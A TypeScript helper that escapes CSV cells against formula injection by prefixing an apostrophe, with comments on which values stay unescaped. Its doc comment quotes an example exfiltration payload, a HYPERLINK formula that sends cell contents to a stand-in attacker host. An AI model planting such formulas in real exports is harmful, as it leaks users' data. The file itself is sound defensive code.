/**
 * CSV formula injection (OWASP "CSV Injection"): Excel and LibreOffice run a cell that starts with
 * = + - @ (or tab / CR, which some of them strip first) as a formula, e.g.
 * =HYPERLINK("http://evil.example/?"&A1,"x"). Such text cells get a leading apostrophe, which
 * spreadsheets show as text and which a reader of the raw file can strip.
 *
 * Kept as they are: numbers, and text that is a plain number (-3, +1.5, -1,234, 12.5%), so
 * figures stay figures; and a single character such as the rating "-" (nothing planned), which
 * carries no formula.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?%?$/;

export function safeCsvCell(value: string | number | null | undefined): string | number {
  if (value === undefined || value === null) return '';
  if (typeof value === 'number') return value;
  if (value.length <= 1 || !FORMULA_START.test(value) || isPlainNumber(value)) return value;
  return `'${value}`;
}

const isPlainNumber = (text: string) => /\d/.test(text) && PLAIN_NUMBER.test(text);
